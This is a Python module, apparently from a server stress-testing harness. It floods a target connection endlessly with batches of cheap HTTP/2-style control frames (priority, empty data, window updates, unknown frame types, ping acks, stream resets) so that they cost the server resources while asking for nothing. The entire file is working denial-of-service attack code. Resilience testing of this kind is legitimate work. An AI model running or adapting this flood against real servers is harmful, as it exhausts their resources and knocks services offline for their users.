"""Frames that ask for nothing and cost something: priorities, window updates, empty data, unknown ones."""

import itertools

import wire
from target import Cut

WAYS = ("plain",)
FLOOR = {"frames": 5000}
BATCH = 1000


def attack(target):
    for number in itertools.count():
        try:
            # A small window: the updates add up to no more than may be.
            with target.connect(number, window=wire.WINDOW_DEFAULT) as connection:
                flood(target, connection)
        except Cut as cut:
            target.cut(cut)


def flood(target, connection):
    stream = connection.open_call(wire.STREAM_DISPLAY)
    some = (wire.frame(wire.PRIORITY, 0, stream, bytes(4) + b"\x10") +
            wire.frame(wire.DATA, 0, stream) + wire.window_update(0, 1) + wire.frame(0xee, 0, 0) +
            wire.frame(wire.PING, wire.ACK, 0, bytes(8)) + wire.rst_stream(stream)) * BATCH
    while True:
        connection.send(some)
        connection.count("frames", 6 * BATCH)
